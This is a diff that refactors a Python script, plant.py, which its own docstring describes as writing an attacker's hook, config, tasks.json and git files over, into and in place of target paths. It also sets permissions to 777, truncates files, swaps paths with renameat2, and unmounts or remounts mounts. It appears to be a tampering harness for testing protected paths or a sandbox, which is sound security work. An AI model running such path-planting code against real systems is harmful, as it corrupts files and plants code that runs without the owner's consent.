@@ -1,7 +1,7 @@
-"""plant.py EVIL PATH...: writes over, into, beside and instead of each path, and moves the directories above it.
+"""plant.py EVIL PATH...: writes over, into, beside and instead of each path, and moves what is above it.
 
-EVIL is a directory with the attacker's files: hook, config, tasks.json, swap/evil and git/. Prints the directories on
-the way that could be moved, a line each: `RENAMED <path>`.
+EVIL is a directory with the attacker's files: hook, config, tasks.json, swap/evil and git/. Prints the
+directories on the way that could be moved, a line each: `RENAMED <path>`.
 """
 
 import contextlib
@@ -10,6 +10,7 @@ import os
 import shutil
 import sys
 from collections.abc import Callable
+from functools import partial
 from pathlib import Path
 
 LIBC = ctypes.CDLL(None, use_errno=True)
@@ -43,10 +44,10 @@ def change(evil: Path, path: Path) -> None:
         ("tasks.json", "tasks.json"),
         ("config", "config"),
     ):
-        attempt(lambda name=name, source=source: shutil.copy(evil / source, path / name))  # type: ignore[misc]
+        attempt(partial(shutil.copy, evil / source, path / name))
     attempt(lambda: path.chmod(0o777))
     for below in path.rglob("*") if path.is_dir() else ():
-        attempt(lambda below=below: below.chmod(0o777))  # type: ignore[misc]
+        attempt(partial(below.chmod, 0o777))
     attempt(lambda: os.truncate(path, 0))
 
 
@@ -63,14 +64,14 @@ def replace(evil: Path, path: Path) -> None:
     attempt(path.rmdir)
     attempt(path.unlink)
     for make, remove in (
-        (lambda new: shutil.copy(evil / "config", new), lambda new: new.unlink()),
-        (lambda new: shutil.copytree(evil, new), shutil.rmtree),
+        (partial(shutil.copy, evil / "config"), os.unlink),
+        (partial(shutil.copytree, evil), shutil.rmtree),
     ):
         new = path.with_name(f"new.{os.getpid()}")
-        attempt(lambda make=make, new=new: make(new))  # type: ignore[misc]
-        attempt(lambda new=new: new.replace(path))  # type: ignore[misc]
-        attempt(lambda new=new: renameat2(new, path, RENAME_EXCHANGE))  # type: ignore[misc]
-        attempt(lambda remove=remove, new=new: remove(new))  # type: ignore[misc]
+        attempt(partial(make, new))
+        attempt(partial(new.replace, path))
+        attempt(partial(renameat2, new, path, RENAME_EXCHANGE))
+        attempt(partial(remove, new))
     renameat2(evil / "swap", path, RENAME_EXCHANGE)
     LIBC.umount2(os.fsencode(path), 0)
     LIBC.mount(b"none", os.fsencode(path), None, MS_REMOUNT, None)
